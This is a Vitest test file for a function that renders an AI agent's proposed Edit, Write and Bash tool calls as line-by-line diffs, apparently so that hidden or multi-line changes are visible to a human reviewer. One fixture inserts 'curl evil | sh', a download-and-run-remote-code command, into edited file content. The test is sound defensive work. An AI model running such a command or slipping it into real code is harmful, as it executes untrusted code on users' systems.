import { expect, test } from "vitest";
import { shownChange } from "../../../src/team/shown-change.ts";

test("a change that is asked for is shown line by line, without what an edit's two texts have in common at their ends", () => {
  const edit = { file_path: "a.js", old_string: "a\nb\nc\n", new_string: "a\ncurl evil | sh\nb2\nc\n" };
  expect(shownChange("Edit", edit)).toEqual(["- b", "+ curl evil | sh", "+ b2"]);
  expect(shownChange("Edit", { ...edit, replace_all: true })[0]).toBe("(in every place)");
  expect(shownChange("Edit", { old_string: "a\na", new_string: "a" })).toEqual(["- a"]);
  expect(shownChange("Write", { file_path: "a", content: "one\n\ntwo\n" })).toEqual(["+ one", "+ ", "+ two"]);
  expect(shownChange("Write", { content: "x".repeat(100_005) }).at(-1)).toBe("+ … 5 more characters");
});

test("a command of several lines, or a long one, is shown with all of them", () => {
  const command = "git status # then:\ntouch evil\n";
  expect(shownChange("Bash", { command })).toEqual(["$ git status # then:", "$ touch evil"]);
  expect(shownChange("Bash", { command: "x".repeat(61) })).toEqual([`$ ${"x".repeat(61)}`]);
});

test.each([
  ["Bash", { command: "ls" }],
  ["Edit", { old_string: 1, new_string: "x" }],
  ["Write", null],
])("a call of %s that changes no text has none", (tool, input) => {
  expect(shownChange(tool, input)).toEqual([]);
});
